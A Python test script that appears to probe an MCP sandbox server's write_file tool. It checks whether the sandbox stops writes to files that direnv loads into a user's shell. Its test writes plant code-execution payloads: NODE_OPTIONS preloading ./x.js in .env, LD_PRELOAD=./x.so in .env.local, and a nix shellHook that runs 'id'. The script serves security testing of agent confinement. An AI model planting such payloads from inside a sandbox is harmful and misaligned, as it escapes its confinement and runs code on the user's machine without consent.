#!/usr/bin/env python3
"""F11: the follower protects what an .envrc sources; does it protect the .env that direnv's `dotenv` (and
`dotenv_if_exists`) loads into the user's shell? write_file alone, policy /tmp/atk40/wc.toml (only wc pinned)."""
import sys, os, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
ws = "/tmp/atk40/ws"
subprocess.run(f"cd {ws} && rm -rf .env .env.local .envrc .envrc.private shell.nix scripts && printf 'source_env_if_exists .envrc.private\\ndotenv\\ndotenv_if_exists .env.local\\nsource scripts/env.sh\\nuse nix\\n' > .envrc && echo 'with import <nixpkgs> {{}}; mkShell {{ }}' > shell.nix && mkdir -p scripts && echo 'export A=1' > scripts/env.sh && echo 'DB_URL=postgres://localhost/dev' > .env && chown -R 65534:65534 .env .envrc scripts shell.nix", shell=True, check=True)
print(".envrc:", open(ws + "/.envrc").read().replace("\n", " | "))
s = Stdio(["/tmp/atk40/mcpsandbox", "serve", "--policy", "/tmp/atk40/wc.toml"], env={"HOME": "/tmp/atk40/home", "PATH": "/usr/bin:/bin"}, err="/tmp/atk40/f11.log")
for p, c in [("scripts/env.sh", "export A=2\n"), (".env", "DB_URL=postgres://localhost/dev\nNODE_OPTIONS=--require ./x.js\n"), (".env.local", "LD_PRELOAD=./x.so\n"), (".envrc.private", "echo hi\n"), ("shell.nix", "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = \"id > /tmp/x\"; }\n")]:
    print(f"write_file {p}:", text(s.call("write_file", {"path": p, "content": c})).strip().replace("\n", " | ")[:200])
s.close()
